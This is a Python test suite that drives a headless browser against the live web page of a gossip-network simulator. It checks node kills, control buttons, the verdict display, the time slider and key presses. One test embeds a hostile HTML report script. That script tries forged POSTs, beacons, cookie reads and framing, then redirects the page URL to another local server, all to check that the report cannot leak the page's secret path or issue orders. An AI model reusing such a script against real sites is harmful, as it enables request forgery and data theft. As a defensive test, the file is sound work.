"""The live page in a real browser: a kill, buttons, verdict, time and keys; a hostile report.

Skipped where no browser is installed."""

import json
import re
import signal
import socket
import threading

import pytest

from gossip.lab.pictures.live_server import Server
from tests.tools.browser import BROWSER, Browser
from tests.tools.nets import FAST
from tests.tools.ports import free_address, free_addresses, free_port, free_range
from tests.tools.programs import Program, run, write_config
from tests.tools.stories import THREE, tell
from tests.tools.waiting import wait_until

pytestmark = pytest.mark.skipif(
    BROWSER is None, reason="needs chromium, google-chrome or chromium-browser")

LINE = re.compile(r"watching (.*) at (http://127\.0\.0\.1:\d+/[\w-]+/)   \(Ctrl-C ends it\)\n")
AT_REST = "page.nodes.length === 10 && !page.layout.moving"
PLACES = ("Object.fromEntries([...page.picture.spots].map(([number, spot]) => "
          "[page.model.nodes.get(number).address, [spot.x, spot.y]]))")
SAY = "document.getElementById({!r}).textContent"


class Shown:
    """One node as the page in a tab shows it."""

    def __init__(self, tab, address):
        self._tab = tab
        self._node = ("[...page.model.nodes.values()].find("
                      f"node => node.address === {json.dumps(str(address))})")

    def state(self) -> str:
        return self._tab.value(f"{self._node}.state")

    def becomes(self, state: str) -> None:
        self._tab.becomes(f"{self._node}.state === {json.dumps(state)}", f"the peer to be {state}")

    def choose(self) -> None:
        """Click on it in the picture."""
        self._tab.becomes(f"page.picture.spots.has({self._node}.number)", "the node to be drawn")
        x, y = self._tab.value(
            f"(() => {{ const spot = page.picture.spots.get({self._node}.number), "
            "room = document.getElementById('canvas').getBoundingClientRect(); "
            "return [room.left + spot.x, room.top + spot.y]; })()")
        for event in ("mousePressed", "mouseReleased"):
            self._tab.ask("Input.dispatchMouseEvent", type=event, x=x, y=y, button="left",
                          clickCount=1)
        self._tab.becomes(f"page.chosen === {self._node}.number", "the node to be chosen")

    def entered(self, state: str) -> list[float]:
        """When it got into a state, on the page's own clock in microseconds."""
        return self._tab.value(
            f"page.model.changes.filter(([, kind, number, state]) => kind === 'state' && "
            f"number === {self._node}.number && state === {json.dumps(state)})"
            ".map(([time]) => time)")


def watch(folder):
    """The watcher of a folder, and its address."""
    return served(Program("runner.py", "watch", folder), folder)


def network(folder, *flags):
    """A watched network of three peers, its page's address, and the addresses of the peers."""
    config, base = write_config(folder, free_addresses(1)), free_range(3)
    program = Program("runner.py", "--peers", 3, "--watch", "--quiet", "--base-port", base,
                      "--capacity", "fixed:2", "--outputs", folder / "out", "--config", config,
                      *flags)
    return (*served(program, folder / "out"), [f"127.0.0.1:{base + at}" for at in range(3)])


def served(program, folder):
    """A program that serves the page of a folder, and the page's address."""
    found = LINE.fullmatch(program.process.stdout.readline().decode())
    assert found and found[1] == str(folder)
    return program, found[2]


def order(tab, word: str) -> None:
    """Press a button, as soon as it is free."""
    button = f"document.querySelector('[data-order={word}]')"
    tab.becomes(f"!{button}.disabled && ({button}.click(), true)", f"the button {word} to be free")


def press(tab, key: str, code: int) -> None:
    """Press a key, with the number that browsers know it by."""
    for event in ("keyDown", "keyUp"):
        tab.ask("Input.dispatchKeyEvent", type=event, key=key, windowsVirtualKeyCode=code)


def seek(tab, time: float) -> None:
    """Move the slider to a time."""
    tab.value("(() => { const slider = document.getElementById('slider'); "
              f"slider.value = {time / 1000}; slider.dispatchEvent(new Event('input')); }})()")


def moved(before: dict, after: dict) -> float:
    """How far the node has moved that has moved most, in pixels."""
    return max(((x - after[node][0]) ** 2 + (y - after[node][1]) ** 2) ** 0.5
               for node, (x, y) in before.items() if node in after)


def test_a_kill_is_seen_as_it_happens_and_undone_by_the_slider(net, tmp_path_factory):
    net.seeds(3)
    others, killed = net.peers(9), free_address()
    config = write_config(net.folder, net.seed_addresses)
    flags = ["--config", config, "--outputs", net.folder, "--quiet", "--gossip-count", 0,
             "--liveness-interval", FAST.liveness_interval]
    watcher, url = watch(net.folder)
    with (watcher, Program("peer.py", killed.port, *flags) as peer,
          Browser(tmp_path_factory.mktemp("browser")) as tab):
        tab.open(url)
        shown = Shown(tab, killed)
        tab.becomes("page.model.figures().peers === 10 && page.model.figures().pieces === 1",
                    "ten peers in one piece")
        tab.becomes(AT_REST, "the layout to rest")
        before, radius = tab.value(PLACES), tab.value("page.picture.radius")

        others[0].gossip(["hello"])
        sentence = SAY.format("sentence")
        tab.becomes(f"{sentence}.includes('“hello”')", "a sentence about the message")
        tab.becomes(f"{sentence}.includes('10 of 10 have it; all in ')", "all to have it")

        peer.process.kill()
        wait_until(lambda: shown.state() != "up", what="the page to show the kill")
        shown.becomes("dead")
        [lost], [dead] = shown.entered("lost"), shown.entered("dead")
        assert lost < dead
        assert moved(before, tab.value(PLACES)) <= radius
        assert str(killed.port) in tab.value(SAY.format("story"))

        seek(tab, lost - 1)
        shown.becomes("up")
        assert tab.value("page.player.live") is tab.value("page.player.running") is False
        assert moved(before, tab.value(PLACES)) <= radius
        tab.value("document.getElementById('back').click()")
        shown.becomes("dead")

        assert tab.errors() == []
        asked = tab.requests()
        assert url in asked and [one for one in asked if not one.startswith((url, "data:"))] == []
        watcher.process.send_signal(signal.SIGINT)
        assert watcher.process.wait(30) == 0


SCRIPT = """<!DOCTYPE html><meta name="referrer" content="unsafe-url"><p id="p"></p><script>
const tried = [];
const attempt = (what, action) => { try { action(); tried.push(what); } catch (error) { } };
attempt("fetch", () => fetch("do", {method: "POST", body: "{}",
  headers: {"Content-Type": "application/json"}}).catch(() => 0));
attempt("beacon", () => navigator.sendBeacon("do", "{}"));
attempt("form", () => { const form = document.createElement("form"); form.method = "post";
  form.action = "do"; document.body.append(form); form.submit(); });
attempt("window", () => { if (!window.open("./")) throw 0; });
attempt("opener", () => opener.document.URL);
attempt("cookie", () => document.cookie);
attempt("frame", () => { const frame = document.createElement("iframe"); frame.src = "./";
  document.body.append(frame); });
location = "http://127.0.0.1:PORT/" + encodeURIComponent(document.URL);
</script>"""


class Elsewhere:
    """A server of somebody else on this machine, which hears what a page tells it."""

    def __init__(self):
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]

    def hear(self) -> str:
        """The head of the next request."""
        self._listener.settimeout(60)
        sock, _ = self._listener.accept()
        with sock, sock.makefile("rb") as stream:
            head = b"".join(iter(stream.readline, b"\r\n"))
            sock.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        return head.decode()

    def __enter__(self):
        return self

    def __exit__(self, *error):
        self._listener.close()


def test_a_script_in_the_report_can_tell_nobody_how_to_give_orders(tmp_path, tmp_path_factory):
    orders, ended = [], threading.Event()
    with Elsewhere() as elsewhere, Browser(tmp_path_factory.mktemp("browser")) as tab:
        (tmp_path / "report.html").write_text(SCRIPT.replace("PORT", str(elsewhere.port)))
        server = Server(tmp_path, free_port(),
                        lambda order: orders.append(order) or (200, "done"), ("kill",))
        serving = threading.Thread(target=server.serve, args=(ended.wait,))
        serving.start()
        try:
            tab.open(server.url)
            tab.becomes("!document.getElementById('report').hidden", "a link to the report")
            tab.ask("Page.navigate", url=tab.value("document.getElementById('report').href"))
            told = elsewhere.hear()
        finally:
            ended.set()
            serving.join(60)
    assert "%2Freport" in told and server.gate.page.strip("/") not in told and orders == []


def test_the_buttons_freeze_thaw_kill_start_and_let_a_peer_speak(tmp_path, tmp_path_factory):
    program, url, (first, second, _) = network(
        tmp_path, "--gossip-count", 0, "--liveness-interval", 1)
    with program, Browser(tmp_path_factory.mktemp("browser")) as tab:
        tab.open(url)
        frozen, killed = Shown(tab, first), Shown(tab, second)
        tab.becomes("page.model.figures().links === 3", "three links")
        frozen.choose()
        order(tab, "freeze")
        frozen.becomes("dead")
        order(tab, "thaw")
        frozen.becomes("up")

        tab.value("document.getElementById('text').value = 'hello, all'")
        order(tab, "say")
        tab.becomes(f"{SAY.format('sentence')}.startsWith('“hello, all” from ')", "its wave")

        tab.becomes("page.model.figures().links === 3", "three links again")
        killed.choose()
        order(tab, "kill")
        wait_until(lambda: killed.entered("lost"), what="the peer to be lost")
        order(tab, "start")
        tab.becomes(f"{SAY.format('facts')}.startsWith('up; neighbours: 2 ')", "it to be back")
        assert tab.errors() == []


def test_the_verdict_is_shown_and_the_report_once_it_is_made(tmp_path, tmp_path_factory):
    program, url, _ = network(tmp_path, "--once", "--gossip-interval", 0.1)
    with program, Browser(tmp_path_factory.mktemp("browser")) as tab:
        tab.open(url)
        tab.ask("Emulation.setDeviceMetricsOverride", width=1024, height=700, deviceScaleFactor=1,
                mobile=False)
        hidden = "document.getElementById({!r}).hidden"
        tab.becomes(f"{SAY.format('proof')} === 'The proof holds'", "the verdict")
        assert "broadcast  holds  60 of 60 deliveries" in tab.value(SAY.format("lines"))
        tab.becomes(hidden.format("orders"), "the buttons to be gone")
        assert tab.value(hidden.format("report")) is True
        assert run("runner.py", "plot", tmp_path / "out")[0] == 0
        tab.becomes(f"!{hidden.format('report')}", "the report")
        boxes = tab.value(
            "[...document.querySelectorAll('header > *, dl > div, #proof, #report')].map(box => "
            "box.getBoundingClientRect()).filter(box => box.right > 1024 || box.left < 0).length")
        assert boxes == 0
        assert tab.value("document.querySelector('dl').scrollWidth <= "
                         "document.querySelector('dl').clientWidth") is True
        assert tab.errors() == []


def test_a_network_that_has_ended_begins_at_the_start_and_keys_go_through_it(
        tmp_path, tmp_path_factory):
    tell(tmp_path, THREE, "3.0 5001 generated:gmessage:3.000000:@5001:1:1:hello",
         "3.0 5002 received:@5001:gmessage:3.000000:@5001:1:1:hello",
         "9.0 5003 leaving:@5003", "61.0 8080 stopped:quit", "61.0 8081 stopped:quit",
         "62.0 5001 stopped:quit", "62.0 5002 stopped:quit")
    watcher, url = watch(tmp_path)
    with watcher, Browser(tmp_path_factory.mktemp("browser")) as tab:
        tab.open(url)
        tab.ask("Emulation.setEmulatedMedia",
                features=[{"name": "prefers-reduced-motion", "value": "reduce"}])
        clock = SAY.format("clock")
        tab.becomes(f"{clock} === '03:04:05.000'", "the start")
        assert tab.value("page.player.running") is False
        assert tab.value(SAY.format("status")) == "this network has ended"

        tab.value("document.getElementById('slider').focus()")
        seek(tab, 2e6)
        tab.becomes(f"{clock} === '03:04:07.000'", "the slider's moment")
        press(tab, "ArrowRight", 39)
        tab.becomes(f"{clock} === '03:04:08.000'", "the next event")
        sentence = SAY.format("sentence")
        tab.becomes(f"{sentence}.startsWith('“hello” from 5001: 2 of 3 have it; ')", "its wave")
        assert tab.value("page.waves.active[0].done") is True
        assert "shown" not in tab.value(sentence)

        press(tab, " ", 32)
        tab.becomes("page.player.running && page.player.at > 3.1e6", "time to go on")
        press(tab, " ", 32)
        tab.becomes("!page.player.running", "time to stand")
        press(tab, "l", 76)
        tab.becomes(f"page.player.live && {clock} === '03:05:07.000'", "the end")
        assert tab.value("document.getElementById('next').disabled") is True
        assert tab.errors() == []


def test_seeds_with_long_names_stand_beside_one_another_and_can_be_clicked(
        tmp_path, tmp_path_factory):
    seeds = [f"192.168.100.{host}:8080" for host in range(100, 106)]
    for seed in seeds:
        path = tmp_path / f"seed_{seed.replace(':', '_')}.txt"
        path.write_text(f"2026-01-02 03:04:05.000000:started:seed:{seed}\n")
    watcher, url = watch(tmp_path)
    with watcher, Browser(tmp_path_factory.mktemp("browser")) as tab:
        tab.open(url)
        tab.ask("Emulation.setDeviceMetricsOverride", width=1024, height=700, deviceScaleFactor=1,
                mobile=False)
        tab.becomes("page.picture.signs.size === 6 && page.picture.wide < 700", "six seeds")
        signs = tab.value("[...page.picture.signs].map(([number, [wide, high]]) => { "
                          "const {x, y} = page.picture.spots.get(number); "
                          "return [x - wide, y - high, x + wide, y + high]; })")
        for at, (left, top, right, bottom) in enumerate(signs):
            assert 0 <= left and 0 <= top and right <= tab.value("page.picture.wide")
            assert all(right <= other[0] or other[2] <= left or bottom <= other[1]
                       or other[3] <= top for other in signs[at + 1:])
        left, top, right, bottom = signs[0]
        assert [tab.value(f"page.picture.at({x}, {(top + bottom) / 2})") for x in (
            left + 2, right - 2)] == [0, 0]
        assert tab.errors() == []
